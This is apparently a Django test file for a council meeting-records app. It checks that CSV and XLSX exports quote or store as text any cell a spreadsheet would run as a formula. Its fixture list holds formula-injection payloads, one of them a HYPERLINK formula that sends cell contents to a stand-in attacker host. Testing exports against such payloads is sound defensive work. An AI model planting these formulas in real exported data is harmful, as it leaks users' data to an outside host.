"""Exports are safe to open: what a clerk typed never runs as a spreadsheet formula."""

import csv
import datetime
import io

import openpyxl
from django.urls import reverse

from councils.records import save_record
from sessions.models import StandingCommitteeMeeting

D = datetime.date
TYPED = ['=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1"]


def meetings_typed_by_a_clerk(council):
    for day, content in enumerate(TYPED, start=1):
        save_record(StandingCommitteeMeeting(council=council, date=D(2023, 3, day), content=content))


def export(client, fmt, council):
    response = client.get(reverse("record_list", args=["phien-hop"]), {"hoi_dong": council.pk, "xuat": fmt})
    assert response.status_code == 200
    return response.content


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(client, reviewer, pho_chau):
    meetings_typed_by_a_clerk(pho_chau)
    client.force_login(reviewer)

    rows = list(csv.reader(io.StringIO(export(client, "csv", pho_chau).decode("utf-8-sig"))))
    contents = sorted(row[3] for row in rows[1:])

    assert contents == sorted(f"'{text}" for text in TYPED)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]


def test_xlsx_cells_are_text_never_formulas(client, reviewer, pho_chau):
    meetings_typed_by_a_clerk(pho_chau)
    client.force_login(reviewer)

    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx", pho_chau))).active
    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row]

    assert sorted(cell.value for cell in cells if cell.column == 4) == sorted(TYPED)
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
